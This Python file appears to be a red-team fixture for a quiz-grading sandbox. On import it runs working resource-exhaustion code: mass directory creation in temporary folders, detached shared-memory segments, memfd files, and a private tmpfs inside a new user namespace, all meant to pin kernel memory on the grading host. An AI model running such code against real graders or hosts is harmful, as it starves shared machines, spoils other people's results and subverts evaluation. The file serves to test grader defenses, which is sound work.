"""ATTACK pin_kernel_memory: take the grading host's memory outside every limit.

What it tries: at import, memory the address-space limit does not count: hundreds of thousands
of empty folders in each writable temporary folder (an inode and a dentry each), detached
System V shared-memory segments of 64 MB, 4 MB memfd files, and a user namespace of its own
with a tmpfs of its own; it keeps all of it while the quiz is graded (about 2.5 GB on a grader
without limits).

What the grader must guarantee: each of these is refused or bounded (tmpfs inode and size
limits, no System V objects, no memfd, no user namespaces), so grading finishes, innocent
submissions graded next to it keep their scores, and the quiz scores as its honest twin.
"""

import ctypes
import os

ATTACK = True  # the honest twin sets this to False
ANSWERS = {number: "B" for number in range(1, 11)}
HELD = []


def _pin(cap: int = 300_000) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            for n in range(cap):
                os.mkdir(f"{folder}/bpattack-pin-{n}")
        except OSError:
            pass
    for _ in range(64):
        if libc.shmget(0, 64 << 20, 0o1000 | 0o600) < 0:
            break
    try:
        for _ in range(64):
            fd = os.memfd_create("bpattack-pin")
            os.write(fd, b"x" * (4 << 20))
            HELD.append(fd)
    except OSError:
        pass
    if os.fork() == 0:
        if libc.unshare(0x10000000 | 0x00020000) == 0:
            libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=1g")
            with open("/tmp/bpattack-pin", "wb") as fh:
                fh.write(b"x" * (512 << 20))
        os._exit(0)


if ATTACK:
    _pin()
